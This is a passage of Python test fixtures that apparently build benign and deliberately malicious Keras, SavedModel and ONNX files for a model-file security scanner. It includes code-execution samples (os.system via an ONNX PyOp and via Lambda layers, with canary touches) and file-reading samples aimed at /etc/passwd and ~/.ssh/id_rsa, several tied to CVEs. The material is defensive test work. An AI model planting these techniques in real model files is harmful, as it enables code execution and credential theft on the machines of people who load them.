    nodes.append(helper.make_node("Decrypt", ["h"], ["y"], name="decrypt",
                                  domain="com.example.private", key="0xdeadbeef"))
    return _save_onnx(out_dir, _onnx_model(nodes, initializers=_onnx_weights(),
                                           opsets=[("com.example.private", 1)]))


def _onnx_pyop(out_dir: Path, canary: Path) -> Path:
    from onnx import TensorProto, helper

    nodes = _onnx_standard_nodes("h")
    nodes.append(helper.make_node(
        "PyOp", ["h"], ["y"], name="pyop", domain="ai.onnx.contrib",
        input_types=[TensorProto.FLOAT], output_types=[TensorProto.FLOAT],
        module="os", class_name="system", compute=f"touch {shlex.quote(str(canary))}"))
    return _save_onnx(out_dir, _onnx_model(nodes, initializers=_onnx_weights(),
                                           opsets=[("ai.onnx.contrib", 1)]))


# --------------------------------------------------------------------------------------------

_H5 = ("h5py", "numpy")
_ONNX = ("onnx", "numpy")


SAMPLES: list[Sample] = [
    # -- Keras .h5, benign
    Sample("keras-h5-benign", "hdf5", False, _h5_benign,
           "tf.keras 2.11 Sequential saved to .h5: model_config, training_config, weights",
           needs=_H5),
    Sample("keras-v3-benign", "keras", False, _keras3_benign,
           "Keras 3 .keras zip: config.json, metadata.json, model.weights.h5", needs=_H5),
    # -- Keras, malicious
    Sample("keras-h5-lambda", "hdf5", True, _h5_lambda,
           "Lambda layer whose marshalled bytecode runs os.system('touch CANARY')",
           source="CVE-2024-3660", min_severity="critical", rule="keras-lambda", needs=_H5),
    Sample("keras-h5-custom-layer", "hdf5", True, _h5_custom_layer,
           "custom layer class: loading needs code that is not in the file",
           rule="keras-custom-object", needs=_H5),
    Sample("keras-h5-external-link", "hdf5", True, _h5_external_link,
           "HDF5 external link in the weights to /etc/passwd",
           rule="hdf5-external-reference", needs=_H5),
    Sample("keras-v3-lambda", "keras", True, _keras3_lambda,
           "Keras 3 __lambda__ with marshalled bytecode (runs with safe_mode=False)",
           min_severity="critical", rule="keras-lambda", needs=_H5),
    Sample("keras-v3-import-subprocess", "keras", True, _keras3_import_subprocess,
           "config.json makes Keras import subprocess.run and call it from a Lambda",
           source="CVE-2025-1550", min_severity="critical", rule="keras-unsafe-import",
           needs=_H5),
    Sample("keras-v3-activation-os-system", "keras", True, _keras3_activation_os,
           "Dense activation resolved to os.system through the config's module field",
           source="CVE-2025-1550", min_severity="critical", rule="keras-unsafe-import",
           needs=_H5),
    Sample("keras-v3-get-file", "keras", True, _keras3_get_file,
           "Lambda calls keras.utils.get_file to download over a local file",
           source="CVE-2025-8747", min_severity="critical", rule="keras-safe-mode-bypass",
           needs=_H5),
    Sample("keras-v3-enable-unsafe-then-lambda", "keras", True, _keras3_enable_unsafe,
           "a Lambda calls keras.config.enable_unsafe_deserialization before a bytecode Lambda",
           source="CVE-2025-9906", min_severity="critical", rule="keras-safe-mode-bypass",
           needs=_H5),
    Sample("keras-v3-vocabulary-path", "keras", True, _keras3_vocabulary_path,
           "StringLookup vocabulary is a local path (~/.ssh/id_rsa) read at load time",
           source="CVE-2025-12058", min_severity="high", rule="keras-file-reference",
           needs=_H5),
    Sample("keras-v3-custom-object", "keras", True, _keras3_custom_object,
           "registered custom layer from a non-Keras module", rule="keras-custom-object",
           needs=_H5),
    # -- SavedModel
    Sample("savedmodel-benign-tf1", "dir", False, _sm_tf1,
           "TF1 graph (Placeholder, MatMul, AddV2, Identity) with the tf.train.Saver wiring"),
    Sample("savedmodel-benign-tf2", "dir", False, _sm_tf2,
           "TF2 SavedModel: serving function plus traced save/restore functions"),
    Sample("savedmodel-writefile", "dir", True, _sm_writefile,
           "WriteFile node in the serving path writes a script to a fixed path",
           min_severity="high", rule="savedmodel-unsafe-op"),
    Sample("savedmodel-pyfunc-in-function", "dir", True, _sm_pyfunc_in_function,
           "EagerPyFunc hidden inside the serving tf.function's FunctionDef",
           min_severity="high", rule="savedmodel-unsafe-op"),
    Sample("savedmodel-savev2-fixed-path", "dir", True, _sm_fixed_save_path,
           "SaveV2 outside the saver, its prefix a constant absolute path",
           min_severity="high", rule="savedmodel-fixed-path"),
    # -- ONNX
    Sample("onnx-benign", "onnx", False, _onnx_benign, "onnx.helper MatMul/Add/Relu model",
           needs=_ONNX),
    Sample("onnx-benign-external-data", "onnx", False, _onnx_benign_external,
           "weights in model.onnx.data beside the model", needs=_ONNX),
    Sample("onnx-external-data-traversal", "onnx", True, _onnx_traversal,
           "initializer whose external data location is ../../etc/passwd",
           source="CVE-2022-25882", min_severity="high", rule="onnx-external-data-traversal",
           needs=_ONNX),
    Sample("onnx-custom-domain", "onnx", True, _onnx_custom_domain,
           "operator in a private domain: needs an unknown custom-op library",
           rule="onnx-custom-op", needs=_ONNX),
    Sample("onnx-pyop", "onnx", True, _onnx_pyop,
           "ONNX Runtime PyOp naming os.system", min_severity="high", rule="onnx-python-op",
           needs=_ONNX),
]
